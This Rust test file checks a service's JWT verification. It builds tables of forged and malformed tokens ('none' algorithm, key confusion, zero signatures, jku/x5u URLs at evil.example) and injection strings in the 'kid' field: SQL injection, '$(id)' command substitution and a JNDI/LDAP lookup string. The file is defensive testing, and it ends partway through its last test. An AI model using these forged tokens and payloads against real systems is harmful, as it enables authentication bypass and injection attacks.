//! Tokens: what is taken, what is refused, and keys that change while the
//! service runs.

use crate::command_line::{accolade, run, text};
use crate::contract::operations;
use crate::support::*;
use accolade::api::auth::Role;
use accolade::api::tokens::LOOK_EVERY;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use chrono::Utc;
use jsonwebtoken::jwk::Jwk;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::OnceLock;
use std::time::Duration;

use Algorithm::{ES256, EdDSA, HS256, HS384, HS512, PS256, RS256, RS384, RS512};

// What stands before the 32 bytes of a private key in PKCS #8.
const ED25519: &[u8] = b"\x30\x2e\x02\x01\0\x30\x05\x06\x03\x2b\x65\x70\x04\x22\x04\x20";
const P256: &[u8] = b"\x30\x41\x02\x01\0\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07\x04\x27\x30\x25\x02\x01\x01\x04\x20";
// What stands before a modulus of 2048 bits in PKCS #1, and before that in an
// X.509 public key.
const RSA_PKCS1: &[u8] = b"\x30\x82\x01\x0a\x02\x82\x01\x01\0";
const RSA_X509: &[u8] =
    b"\x30\x82\x01\x22\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\0\x03\x82\x01\x0f\0";

/// A private key for what tokens are signed with.
enum Signer {
    Ed(u8),
    Ec(u8),
    Rsa,
    Secret(Vec<u8>),
}

use Signer::{Ec, Ed, Rsa};

impl Signer {
    fn key(&self) -> EncodingKey {
        match self {
            Ed(seed) => EncodingKey::from_ed_der(&[ED25519, &[*seed; 32]].concat()),
            Ec(seed) => EncodingKey::from_ec_der(&[P256, &[*seed; 32]].concat()),
            Rsa => EncodingKey::from_rsa_der(&STANDARD.decode(RSA.replace('\n', "")).unwrap()),
            Self::Secret(bytes) => EncodingKey::from_secret(bytes),
        }
    }

    /// The public key as a file holds it.
    fn jwk(&self, kid: &str) -> Value {
        let algorithm = match self {
            Ed(_) => EdDSA,
            Ec(_) => ES256,
            _ => RS256,
        };
        let jwk = Jwk::from_encoding_key(&self.key(), algorithm).unwrap();
        let mut jwk = serde_json::to_value(jwk).unwrap();
        jwk["kid"] = json!(kid);
        jwk
    }

    /// A number of the public key.
    fn number(&self, name: &str) -> Vec<u8> {
        URL_SAFE_NO_PAD.decode(self.jwk("")[name].as_str().unwrap()).unwrap()
    }

    fn sign(&self, message: &str, algorithm: Algorithm) -> String {
        jsonwebtoken::crypto::sign(message.as_bytes(), &self.key(), algorithm).unwrap()
    }
}

fn secret() -> Signer {
    Signer::Secret(SECRET.as_bytes().to_vec())
}

fn file(keys: &[Value]) -> String {
    json!({"keys": keys}).to_string()
}

/// A file with a key of each kind.
fn one_of_each() -> String {
    file(&[Ed(1).jwk("ed"), Ec(2).jwk("ec"), Rsa.jwk("rsa")])
}

fn b64(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// A token of any two texts, signed by any algorithm.
fn compact(header: &str, claims: impl AsRef<[u8]>, signer: &Signer, by: Algorithm) -> String {
    let message = format!("{}.{}", b64(header), b64(claims));
    let signature = signer.sign(&message, by);
    format!("{message}.{signature}")
}

/// Claims that nothing is wrong with, but for these.
fn claims(changes: &Value) -> String {
    let mut claims = json!({
        "iss": "accolade", "aud": "accolade", "sub": "tester", "store": STORE,
        "role": "platform_admin", "exp": Utc::now().timestamp() + 3_600,
    });
    claims.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
    claims.to_string()
}

fn header(alg: &str, kid: Option<&str>) -> Value {
    kid.map_or(json!({"alg": alg}), |kid| json!({"alg": alg, "kid": kid}))
}

/// A token that nothing is wrong with.
fn good(kid: Option<&str>, signer: &Signer, by: Algorithm) -> String {
    let header = header(&format!("{by:?}"), kid).to_string();
    compact(&header, claims(&json!({})), signer, by)
}

fn good_by_secret() -> String {
    good(None, &secret(), HS256)
}

/// Forged and malformed tokens, each with what is wrong, as header lines.
struct Table(Vec<(String, Vec<u8>)>);

impl Table {
    fn lines(&mut self, what: &str, lines: impl AsRef<[u8]>) {
        self.0.push((what.to_owned(), lines.as_ref().to_vec()));
    }

    fn token(&mut self, what: &str, token: &str) {
        self.lines(what, format!("Authorization: Bearer {token}\r\n"));
    }

    /// A header beside good claims.
    fn header(&mut self, what: &str, header: &Value, signer: &Signer, by: Algorithm) {
        let token = compact(&header.to_string(), claims(&json!({})), signer, by);
        self.token(&format!("{what}: {header}"), &token);
    }

    /// Claims beside a good header.
    fn claims(&mut self, changes: &Value) {
        let token = compact(r#"{"alg":"HS256"}"#, claims(changes), &secret(), HS256);
        self.token(&format!("claims {changes}"), &token);
    }

    fn forged() -> Self {
        let mut table = Self(Vec::new());
        table.of_requests();
        table.of_shapes();
        table.of_algorithms();
        table.of_keys();
        table.of_parameters();
        table.of_claims();
        table
    }

    fn of_requests(&mut self) {
        let good = good_by_secret();
        self.lines("nothing", "");
        self.lines("an empty header", "Authorization:\r\n");
        self.lines("a scheme alone", "Authorization: Bearer\r\n");
        self.lines("a scheme and a space", "Authorization: Bearer \r\n");
        for scheme in ["Basic", "Token", "JWT", "Digest", "Bearer:", "Bearer Bearer"] {
            self.lines(scheme, format!("Authorization: {scheme} {good}\r\n"));
        }
        self.lines("no scheme", format!("Authorization: {good}\r\n"));
        self.lines("no space", format!("Authorization: Bearer{good}\r\n"));
        self.lines("quotes", format!("Authorization: Bearer \"{good}\"\r\n"));
        let header = format!("Authorization: Bearer {good}\r\n");
        self.lines("the same header twice", header.repeat(2));
        self.lines("another scheme after", format!("{header}Authorization: Basic YTpi\r\n"));
        self.lines("another scheme before", format!("Authorization: Basic YTpi\r\n{header}"));
        self.lines("an empty header after", format!("{header}Authorization:\r\n"));
        self.lines("two in one", format!("Authorization: Bearer {good}, Bearer {good}\r\n"));
        self.lines("two with a space", format!("Authorization: Bearer {good} {good}\r\n"));
        let mut no_text = header.trim_end().as_bytes().to_vec();
        no_text.extend(b"\xc3\xa4\r\n");
        self.lines("no ASCII", no_text);
        for other in
            ["Proxy-Authorization: Bearer", "X-Authorization: Bearer", "Cookie: access_token="]
        {
            self.lines(other, format!("{other} {good}\r\n"));
        }
    }

    fn of_shapes(&mut self) {
        let good = good_by_secret();
        let (content, signature) = good.rsplit_once('.').unwrap();
        let (head, claims_of_good) = content.split_once('.').unwrap();
        for text in ["nonsense", "a.b.c", ".", "..", "...", "e30.e30.", "null", "{}", "undefined"] {
            self.token(&format!("nonsense {text}"), text);
        }
        self.token("no signature", content);
        self.token("an empty signature", &format!("{content}."));
        self.token("no claims", &format!("{head}..{signature}"));
        self.token("no header", &format!(".{claims_of_good}.{signature}"));
        self.token("a fourth part", &format!("{good}.{signature}"));
        self.token("five parts, as an encrypted one", &format!("{head}....{signature}"));
        let parts = json!({"protected": head, "payload": claims_of_good, "signature": signature});
        self.token("as JSON", &parts.to_string());
        self.token("encoded twice", &b64(&good));
        self.token("%2E", &good.replace('.', "%2E"));
        self.token("a space inside", &good.replace('.', ". "));
        self.token("a signature cut short", &good[..good.len() - 1]);
        self.token("a signature of half its length", &good[..good.len() - 22]);
        self.token("a signature that goes on", &format!("{good}AAAA"));
        self.token("a padded signature", &format!("{good}="));
        self.token("a padded header", &format!("{head}=.{claims_of_good}.{signature}"));
        self.token("a signature of zeros", &format!("{content}.{}", b64([0; 32])));
        // Bits after the end, which a lenient reader drops.
        const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let last = ALPHABET.find(&good[good.len() - 1..]).unwrap();
        let next = &ALPHABET[last + 1..last + 2];
        self.token("bits after the end", &format!("{}{next}", &good[..good.len() - 1]));
        let with_both = (0..).map(|n| {
            let of_number = claims(&json!({"sub": format!("tester {n}")}));
            compact(r#"{"alg":"HS256"}"#, of_number, &secret(), HS256)
        });
        let mut with_both = with_both.skip_while(|token| {
            let signature = token.rsplit('.').next().unwrap();
            !signature.contains('-') || !signature.contains('_')
        });
        let other_letters = with_both.next().unwrap().replace('-', "+").replace('_', "/");
        self.token("letters of plain Base64", &other_letters);
        let other = claims(&json!({"role": "administrator"}));
        self.token("other claims", &format!("{head}.{}.{signature}", b64(other)));
        self.token(
            "another header",
            &format!("{}.{claims_of_good}.{signature}", b64(r#"{"alg":"HS256","a":1}"#)),
        );
        let other =
            compact(r#"{"alg":"HS256"}"#, claims(&json!({"sub": "other"})), &secret(), HS256);
        let signature_of_other = other.rsplit('.').next().unwrap();
        self.token("another token's signature", &format!("{content}.{signature_of_other}"));
        self.token("a good one in a good one", &{
            compact(r#"{"alg":"HS256","cty":"JWT"}"#, &good, &secret(), HS256)
        });
        let long = claims(&json!({"more": "x".repeat(8 * 1024)}));
        self.token("too long", &compact(r#"{"alg":"HS256"}"#, long, &secret(), HS256));
        self.token("too long a nonsense", &"a".repeat(16 * 1024));
        self.token("dots", &".".repeat(8 * 1024));
    }

    fn of_algorithms(&mut self) {
        for alg in ["none", "None", "NONE", "nOnE"] {
            for kid in [None, Some("ed")] {
                let header = header(alg, kid).to_string();
                let content = format!("{}.{}", b64(&header), b64(claims(&json!({}))));
                self.token(&header, &format!("{content}."));
            }
            self.header("signed", &header(alg, None), &secret(), HS256);
        }
        for alg in [
            json!(null),
            json!(1),
            json!(["HS256"]),
            json!({}),
            json!(""),
            json!("hs256"),
            json!("HS256 "),
        ] {
            self.header("alg", &json!({"alg": alg}), &secret(), HS256);
        }
        self.header("no alg", &json!({}), &secret(), HS256);
        self.header("another HMAC", &header("HS384", None), &secret(), HS384);
        self.header("another HMAC", &header("HS512", None), &secret(), HS512);
        for text in [
            r#"{"alg":"none","alg":"HS256"}"#,
            r#"{"alg":"HS256","alg":"HS256"}"#,
            r#"["HS256"]"#,
            r#""HS256""#,
            "HS256",
            r#"{"alg":"HS256"}}"#,
            r#"{"alg":"HS256""#,
            "",
        ] {
            let token = compact(text, claims(&json!({})), &secret(), HS256);
            self.token(&format!("header {text}"), &token);
        }
        // What is public about a key, taken for the secret.
        let pkcs1 = [RSA_PKCS1, &Rsa.number("n"), b"\x02\x03\x01\0\x01"].concat();
        let x509 = [RSA_X509, &pkcs1].concat();
        let point = [b"\x04".as_slice(), &Ec(2).number("x"), &Ec(2).number("y")].concat();
        for (kid, public) in [
            ("rsa", pem("PUBLIC KEY", &x509)),
            ("rsa", pem("PUBLIC KEY", &x509).trim().to_owned()),
            ("rsa", pem("RSA PUBLIC KEY", &pkcs1)),
            ("rsa", Rsa.jwk("rsa").to_string()),
            ("rsa", Rsa.jwk("rsa")["n"].as_str().unwrap().to_owned()),
            ("ed", Ed(1).jwk("ed").to_string()),
            ("ed", Ed(1).jwk("ed")["x"].as_str().unwrap().to_owned()),
            ("ec", Ec(2).jwk("ec").to_string()),
            ("ec", one_of_each()),
        ] {
            let signer = Signer::Secret(public.into_bytes());
            self.header("a public key as the secret", &header("HS256", Some(kid)), &signer, HS256);
            self.header("a public key as the secret", &header("HS256", None), &signer, HS256);
        }
        for (kid, public) in [
            ("rsa", x509),
            ("rsa", pkcs1),
            ("rsa", Rsa.number("n")),
            ("ed", Ed(1).number("x")),
            ("ec", point),
        ] {
            let signer = Signer::Secret(public);
            self.header("a public key's bytes", &header("HS256", Some(kid)), &signer, HS256);
            self.header("a public key's bytes", &header("HS256", None), &signer, HS256);
        }
        for guess in ["", "secret", "accolade", "null", "another secret, 32 bytes as well"] {
            let signer = Signer::Secret(guess.as_bytes().to_vec());
            self.header(&format!("guessed {guess:?}"), &header("HS256", None), &signer, HS256);
        }
        // The right key by another algorithm, or under another's name.
        for by in [RS384, RS512, PS256] {
            self.header("RSA", &header(&format!("{by:?}"), Some("rsa")), &Rsa, by);
        }
        self.header("swapped", &header("RS256", Some("rsa")), &Rsa, PS256);
        self.header("swapped", &header("PS256", Some("rsa")), &Rsa, RS256);
        self.header("swapped", &header("ES256", Some("ed")), &Ed(1), EdDSA);
        self.header("swapped", &header("EdDSA", Some("ec")), &Ec(2), ES256);
        self.header("swapped", &header("ES384", Some("ec")), &Ec(2), ES256);
        self.header("swapped", &header("RS256", Some("ec")), &Ec(2), ES256);
        self.header("swapped", &header("EdDSA", None), &secret(), HS256);
    }

    fn of_keys(&mut self) {
        self.header("a stranger's key", &header("EdDSA", Some("ed")), &Ed(9), EdDSA);
        self.header("a stranger's key", &header("ES256", Some("ec")), &Ec(9), ES256);
        self.header("another's kid", &header("EdDSA", Some("ec")), &Ed(1), EdDSA);
        self.header("another's kid", &header("EdDSA", Some("rsa")), &Ed(1), EdDSA);
        self.header("another's kid", &header("ES256", Some("ed")), &Ec(2), ES256);
        self.header("no kid", &header("EdDSA", None), &Ed(1), EdDSA);
        self.header("no kid", &header("RS256", None), &Rsa, RS256);
        self.header("a key's kid", &header("HS256", Some("ed")), &secret(), HS256);
        for kid in [
            "unknown",
            "",
            "ED",
            " ed",
            "ed ",
            "ed\0",
            "ed\n",
            "еd",
            "../../../../../../dev/null",
            "/dev/null",
            "file:///dev/null",
            "https://evil.example/keys.json",
            "' OR '1'='1",
            "x' UNION SELECT 'key' --",
            "ed'; DROP TABLE customers; --",
            "$(id)|`id`",
            "${jndi:ldap://evil.example/a}",
            &"k".repeat(4_000),
        ] {
            self.header("kid, by a key of the file", &header("EdDSA", Some(kid)), &Ed(1), EdDSA);
            self.header("kid, by the secret", &header("HS256", Some(kid)), &secret(), HS256);
        }
        for empty in ["", "key", "AA=="] {
            let signer = Signer::Secret(empty.as_bytes().to_vec());
            self.header("what a kid led to", &header("HS256", Some("/dev/null")), &signer, HS256);
        }
        for kid in [json!(null), json!(0), json!(["ed"]), json!({"ed": 1}), json!(true)] {
            self.header("kid", &json!({"alg": "HS256", "kid": kid}), &secret(), HS256);
            self.header("kid", &json!({"alg": "EdDSA", "kid": kid}), &Ed(1), EdDSA);
        }
        let twice = r#"{"alg":"EdDSA","kid":"ec","kid":"ed"}"#;
        self.token(twice, &compact(twice, claims(&json!({})), &Ed(1), EdDSA));
        // Signatures that careless mathematics takes.
        for (alg, kid, length) in [("ES256", "ec", 64), ("EdDSA", "ed", 64), ("RS256", "rsa", 256)]
        {
            let header = header(alg, Some(kid)).to_string();
            let content = format!("{}.{}", b64(&header), b64(claims(&json!({}))));
            let mut one = vec![0; length];
            self.token(&format!("zeros {header}"), &format!("{content}.{}", b64(&one)));
            one[length - 1] = 1;
            self.token(&format!("one {header}"), &format!("{content}.{}", b64(&one)));
            self.token(&format!("empty {header}"), &format!("{content}."));
            self.token(&format!("short {header}"), &format!("{content}.{}", b64([1])));
        }
        let raw = good(Some("ec"), &Ec(2), ES256);
        let (content, signature) = raw.rsplit_once('.').unwrap();
        let der = der_signature(&URL_SAFE_NO_PAD.decode(signature).unwrap());
        self.token("ES256 in DER", &format!("{content}.{}", b64(der)));
    }

    fn of_parameters(&mut self) {
        let stranger = Ed(9).jwk("ed");
        for parameters in [
            json!({"jwk": stranger}),
            json!({"jwk": null}),
            json!({"jku": "https://evil.example/keys.json"}),
            json!({"x5u": "https://evil.example/cert.pem"}),
            json!({"x5c": ["MIIB"]}),
            json!({"crit": ["exp"]}),
            json!({"crit": []}),
            json!({"crit": null}),
            json!({"crit": ["b64"], "b64": true}),
            json!({"b64": true}),
            json!({"b64": false}),
            json!({"typ": ""}),
            json!({"typ": null}),
            json!({"typ": 1}),
            json!({"typ": "JWE"}),
            json!({"typ": "JOSE"}),
            json!({"typ": "dpop+jwt"}),
            json!({"typ": "logout+jwt"}),
            json!({"typ": "secevent+jwt"}),
            json!({"typ": "at+jwt; a=b"}),
        ] {
            let mut header = header("EdDSA", Some("ed"));
            header.as_object_mut().unwrap().extend(parameters.as_object().unwrap().clone());
            self.header("by a key of the file", &header, &Ed(1), EdDSA);
        }
        let brought = json!({"alg": "EdDSA", "jwk": stranger});
        self.header("by the key that it brings", &brought, &Ed(9), EdDSA);
        let named = json!({"alg": "EdDSA", "kid": "ed", "jwk": stranger});
        self.header("by the key that it brings", &named, &Ed(9), EdDSA);
        // RFC 7797: claims that are not encoded.
        let head = b64(r#"{"alg":"EdDSA","kid":"ed","b64":false,"crit":["b64"]}"#);
        let message = format!("{head}.{}", claims(&json!({})));
        self.token("not encoded", &format!("{message}.{}", Ed(1).sign(&message, EdDSA)));
    }

    fn of_claims(&mut self) {
        let now = Utc::now().timestamp();
        for name in ["iss", "aud", "exp", "sub", "store", "role"] {
            let mut without: Value = serde_json::from_str(&claims(&json!({}))).unwrap();
            without.as_object_mut().unwrap().remove(name);
            let token = compact(r#"{"alg":"HS256"}"#, without.to_string(), &secret(), HS256);
            self.token(&format!("without {name}"), &token);
            for value in [json!(null), json!({}), json!([]), json!(true), json!(""), json!(-1)] {
                self.claims(&json!({name: value}));
            }
        }
        for changes in [
            json!({"iss": "another"}),
            json!({"iss": "Accolade"}),
            json!({"iss": ["accolade"]}),
            json!({"aud": "another"}),
            json!({"aud": "accolade "}),
            json!({"aud": ["another"]}),
            json!({"aud": ["accolade", 1]}),
            json!({"aud": [["accolade"]]}),
            json!({"exp": now}),
            json!({"exp": now - 3_600}),
            json!({"exp": 0}),
            json!({"exp": format!("{}", now + 3_600)}),
            json!({"exp": 4_000_000_000.5}),
            json!({"exp": u64::MAX}),
            json!({"nbf": now + 3_600}),
            json!({"nbf": i64::MAX}),
            json!({"nbf": "0"}),
            json!({"nbf": null}),
            json!({"iat": "0"}),
            json!({"iat": null}),
            json!({"sub": 7}),
            json!({"sub": "a\0b"}),
            json!({"sub": "a\nb"}),
            json!({"sub": "x".repeat(256)}),
            json!({"store": "a b"}),
            json!({"store": "../shop"}),
            json!({"store": "*"}),
            json!({"store": "x".repeat(65)}),
            json!({"store": [STORE]}),
            json!({"role": "admin"}),
            json!({"role": "Platform_Admin"}),
            json!({"role": "platform_admin "}),
            json!({"role": ["platform_admin"]}),
            json!({"role": "support,platform_admin"}),
        ] {
            self.claims(&changes);
        }
        let whole = claims(&json!({}));
        let open = whole.trim_end_matches('}');
        let texts = [
            "".to_owned(),
            "null".to_owned(),
            "[]".to_owned(),
            "{}".to_owned(),
            json!(whole).to_string(),
            json!([whole]).to_string(),
            json!(["accolade", "accolade", "tester", STORE, "platform_admin", now + 60])
                .to_string(),
            open.to_owned(),
            format!("{whole}{whole}"),
            format!("\u{feff}{whole}"),
            whole.replace('"', "'"),
            format!(r#"{open},"role":"support"}}"#),
            format!(r#"{open},"exp":{}}}"#, now + 7_200),
            format!(r#"{open},"nbf":1e400}}"#),
        ];
        for text in texts {
            let token = compact(r#"{"alg":"HS256"}"#, &text, &secret(), HS256);
            self.token(&format!("claims {text}"), &token);
        }
        let mut no_text = whole.into_bytes();
        let place = no_text.windows(6).position(|bytes| bytes == b"tester").unwrap();
        no_text[place] = 0xff;
        self.token("no UTF-8", &compact(r#"{"alg":"HS256"}"#, no_text, &secret(), HS256));
    }
}

fn pem(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<&str> =
        text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

/// The two numbers of an ECDSA signature in DER.
fn der_signature(raw: &[u8]) -> Vec<u8> {
    let mut numbers = Vec::new();
    for number in raw.chunks(32) {
        let mut number: Vec<u8> = number.iter().copied().skip_while(|byte| *byte == 0).collect();
        if number[0] >= 0x80 {
            number.insert(0, 0);
        }
        numbers.extend([2, u8::try_from(number.len()).unwrap()]);
        numbers.extend(number);
    }
    [vec![0x30, u8::try_from(numbers.len()).unwrap()], numbers].concat()
}

/// A client that sends any header, and keeps its connection.
struct Plain<'a> {
    socket: &'a str,
    connection: Option<BufReader<TcpStream>>,
}

/// A status, the lines of the head in small letters, and the body.
type PlainAnswer = (u16, Vec<String>, String);

impl Plain<'_> {
    fn ask(&mut self, method: &str, path: &str, lines: &[u8]) -> PlainAnswer {
        let start = format!("{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n");
        let request = [start.as_bytes(), lines, b"\r\n"].concat();
        // A connection may have been closed since the last answer.
        let kept = self.connection.take().and_then(|kept| self.exchange(kept, &request).ok());
        kept.unwrap_or_else(|| {
            let fresh = TcpStream::connect(self.socket).unwrap();
            fresh.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            fresh.set_nodelay(true).unwrap();
            self.exchange(BufReader::new(fresh), &request).unwrap()
        })
    }

    fn exchange(
        &mut self,
        mut connection: BufReader<TcpStream>,
        request: &[u8],
    ) -> std::io::Result<PlainAnswer> {
        connection.get_mut().write_all(request)?;
        let mut head = Vec::new();
        loop {
            let mut line = String::new();
            if connection.read_line(&mut line)? == 0 {
                return Err(std::io::ErrorKind::UnexpectedEof.into());
            }
            if line.trim().is_empty() {
                break;
            }
            head.push(line.trim().to_lowercase());
        }
        let status = head[0].split(' ').nth(1).unwrap().parse().unwrap();
        let length = head.iter().find_map(|line| line.strip_prefix("content-length: ")).unwrap();
        let mut body = vec![0; length.parse().unwrap()];
        connection.read_exact(&mut body)?;
        if !head.contains(&"connection: close".to_owned()) {
            self.connection = Some(connection);
        }
        Ok((status, head, String::from_utf8(body).unwrap()))
    }
}

/// Whether a token is good for something that needs no more than one.
fn is_taken(app: &App, token: &str) -> bool {
    let answer = app.client_with(Some(token)).get("/v1/program");
    if answer.status == 401 {
        answer.expect_problem(401, "unauthorized");
        return false;
    }
    answer.expect(200);
    true
}

on_both! {
    fn every_forged_or_malformed_token_is_answered_alike_by_every_operation(app) {
        app.set_up(json!({}));
        app.set_keys(&one_of_each());
        // Made once: signing takes longer than asking.
        static TABLE: OnceLock<Table> = OnceLock::new();
        let table = &TABLE.get_or_init(Table::forged).0;
        // No database is asked: on each, half of them are enough.
        let half = usize::from(app.database_url.starts_with("postgres"));
        let table: Vec<_> = table.iter().skip(half).step_by(2).collect();
        assert!(table.len() >= 120, "only {} tokens", table.len());
        let mut client = Plain { socket: app.socket(), connection: None };
        let mut bodies = BTreeSet::new();
        for operation in operations() {
            let path = operation.path();
            for (what, lines) in &table {
                let (status, head, body) = client.ask(&operation.method, &path, lines);
                assert_eq!(status, 401, "{}, {what}: {body}", operation.name());
                let challenge = head.iter().filter(|line| line.starts_with("www-authenticate"));
                assert_eq!(challenge.collect::<Vec<_>>(), ["www-authenticate: bearer"], "{what}");
                bodies.insert(body);
            }
            // The connection says something else to a good token.
            let good = format!("Authorization: Bearer {}\r\n", good_by_secret());
            let (status, _, body) = client.ask(&operation.method, &path, good.as_bytes());
            assert!(status != 401 && status < 500, "{}: {body}", operation.name());
        }
        assert_eq!(bodies.len(), 1, "{bodies:?}");
    }

    fn each_kind_of_key_is_taken(app) {
        app.set_up(json!({}));
        let tokens = [
            good(Some("ed"), &Ed(1), EdDSA),
            good(Some("ec"), &Ec(2), ES256),
            good(Some("rsa"), &Rsa, RS256),
        ];
        assert!(tokens.iter().all(|token| !is_taken(app, token)));
        app.set_keys(&one_of_each());
        for token in &tokens {
            // Once verified, and then remembered.
            assert!(is_taken(app, token) && is_taken(app, token), "{token}");
        }
        assert!(is_taken(app, &good_by_secret()));
    }

    fn what_leaves_a_token_good_is_taken(app) {
        app.set_up(json!({}));
        app.set_keys(&one_of_each());
        let now = Utc::now().timestamp();
        let parameters = [
            json!({"typ": "JWT"}),
            json!({"typ": "jwt"}),
            json!({"typ": "at+jwt"}),
            json!({"typ": "AT+JWT"}),
            json!({"typ": "application/at+jwt"}),
            json!({"x5t": "AAAA", "x5t#S256": "AAAA", "cty": "json", "more": {"a": [1]}}),
        ];
        for more in parameters {
            let mut header = header("EdDSA", Some("ed"));
            header.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            let token = compact(&header.to_string(), claims(&json!({})), &Ed(1), EdDSA);
            assert!(is_taken(app, &token), "{header}");
        }
        for changes in [
            json!({"aud": ["another", "accolade"]}),
            json!({"nbf": now, "iat": now}),
            json!({"iat": now + 60}),
            json!({"sub": "x".repeat(255)}),
            json!({"more": "x".repeat(4_096), "scope": ["a"], "azp": null}),
        ] {
            let token = compact(r#"{"alg":"HS256"}"#, claims(&changes), &secret(), HS256);
            assert!(is_taken(app, &token), "{changes}");
        }
        let spaced = compact(" { \"alg\" : \"HS256\" } ", claims(&json!({})), &secret(), HS256);
        assert!(is_taken(app, &spaced));
        let mut client = Plain { socket: app.socket(), connection: None };
        for scheme in ["bearer", "BEARER", "Bearer "] {
            let line = format!("authorization: {scheme} {}\r\n", good_by_secret());
            assert_eq!(client.ask("GET", "/v1/program", line.as_bytes()).0, 200, "{scheme}");
        }
    }

    fn a_public_keys_token_has_the_role_and_the_store_that_it_names(app) {
        app.set_up(json!({}));
        app.set_keys(&one_of_each());
        let of = |changes: &Value| {
            let header = header("EdDSA", Some("ed")).to_string();
            compact(&header, claims(changes), &Ed(1), EdDSA)
        };
        let support = of(&json!({"role": "support"}));
        app.client_with(Some(&support)).get("/v1/customers").expect(200);
        app.client_with(Some(&support)).get("/v1/audit").expect_problem(403, "forbidden");
        let elsewhere = of(&json!({"store": "elsewhere"}));
        app.client_with(Some(&elsewhere)).get("/v1/program").expect_problem(409, "store_not_set_up");
        let named = of(&json!({"sub": "Zoë of the key"}));
        app.client_with(Some(&named)).patch("/v1/program", &json!({"grace_days": 7})).expect(200);
        let log = app.client(Role::Manager).get("/v1/audit").expect(200);
        assert!(log.text.contains("Zoë of the key"), "{}", log.text);
    }

    fn a_token_ends_while_it_is_remembered(app) {
        app.set_up(json!({}));
        app.set_keys(&one_of_each());
        let ends = Utc::now().timestamp() + 2;
        let header = header("EdDSA", Some("ed")).to_string();
        let token = compact(&header, claims(&json!({"exp": ends})), &Ed(1), EdDSA);
        assert!(is_taken(app, &token));
        while Utc::now().timestamp() < ends {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert!(!is_taken(app, &token));
    }

    fn keys_rotate_with_overlap_and_without_a_restart(app) {
        app.set_up(json!({}));
        let (old, new) = (good(Some("old"), &Ed(1), EdDSA), good(Some("new"), &Ec(2), ES256));
        let taken = || (is_taken(app, &old), is_taken(app, &new), is_taken(app, &good_by_secret()));
        app.set_keys(&file(&[Ed(1).jwk("old")]));
        assert_eq!(taken(), (true, false, true));
        app.set_keys(&file(&[Ed(1).jwk("old"), Ec(2).jwk("new")]));
        assert_eq!(taken(), (true, true, true));
        // What was remembered a moment ago ends with its key.
        app.set_keys(&file(&[Ec(2).jwk("new")]));
        assert_eq!(taken(), (false, true, true));
        // Another key in the place of this one, in as many bytes.
        app.set_keys(&file(&[Ec(3).jwk("new")]));
        assert_eq!(taken(), (false, false, true));
        assert!(is_taken(app, &good(Some("new"), &Ec(3), ES256)));
    }

    fn a_file_that_has_gone_bad_leaves_the_keys_as_they_are(app) {
        app.set_up(json!({}));
        let (one, two) = (good(Some("one"), &Ed(1), EdDSA), good(Some("two"), &Ed(2), EdDSA));
        let (old, whole) = (Ed(1).jwk("one"), file(&[Ed(2).jwk("two")]));
        app.set_keys(&file(&[Ed(1).jwk("one")]));
        assert!(is_taken(app, &one));
        let mut private = Ed(2).jwk("two");
        private["d"] = json!("AAAA");
        let symmetric = json!({"kid": "two", "kty": "oct", "k": b64(SECRET)});
        let twice = file(&[old.clone(), Ed(2).jwk("two"), Ed(3).jwk("two")]);
        let bad = [
            "",
            "nonsense",
            &whole[..whole.len() / 2],
            &file(&[old.clone(), private.clone()]),
            &file(&[old, symmetric]),
            &twice,
        ];
        for content in bad {
            app.set_keys(content);
            assert_eq!((is_taken(app, &one), is_taken(app, &two)), (true, false), "{content}");
        }
        app.remove_keys();
        assert!(is_taken(app, &one));
        // What was taken out, or replaced under its name, is trusted no more,
        // though the file can't be used.
        for bad in [file(&[private.clone()]), file(&[Ed(3).jwk("one"), private])] {
            app.set_keys(&file(&[Ed(1).jwk("one")]));
            assert!(is_taken(app, &one));
            app.set_keys(&bad);
            assert_eq!((is_taken(app, &one), is_taken(app, &two)), (false, false), "{bad}");
        }
        app.set_keys(&whole);
        assert_eq!((is_taken(app, &one), is_taken(app, &two)), (false, true));
    }
}

/// A serving instance that trusts a file of keys alone, and what it logs.
struct Serving {
    child: Child,
    base: String,
}

impl Serving {
    fn start(folder: &Path) -> Self {
        let log = std::fs::File::create(folder.join("log")).unwrap();
        let mut child = accolade(folder, &["serve"])
            .env("JWKS_FILE", "keys.json")
            .env("TOKEN_ISSUER", "https://login.example/")
            .env("TOKEN_AUDIENCE", "vip")
            .env("LOG_LEVEL", "error")
            .stdout(Stdio::piped())
            .stderr(log)
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut first).unwrap();
        let base = first.trim().strip_prefix("listening on ").unwrap().to_owned();
        Self { child, base }
    }

    fn status(&self, token: &str) -> u16 {
        let config = ureq::Agent::config_builder().http_status_as_error(false).build();
        let agent: ureq::Agent = config.into();
        let request = agent.get(format!("{}/v1/program", self.base));
        let answer = request.header("authorization", format!("Bearer {token}")).call().unwrap();
        answer.status().as_u16()
    }
}

impl Drop for Serving {
    fn drop(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

#[test]
fn with_keys_alone_there_is_no_secret_and_a_bad_file_is_logged_once() {
    let folder = tempfile::tempdir().unwrap();
    let keys = folder.path().join("keys.json");
    let log = || std::fs::read_to_string(folder.path().join("log")).unwrap();
    std::fs::write(&keys, file(&[Ed(1).jwk("one")])).unwrap();
    let serving = Serving::start(folder.path());
    let theirs = json!({"iss": "https://login.example/", "aud": ["vip", "shop"]});
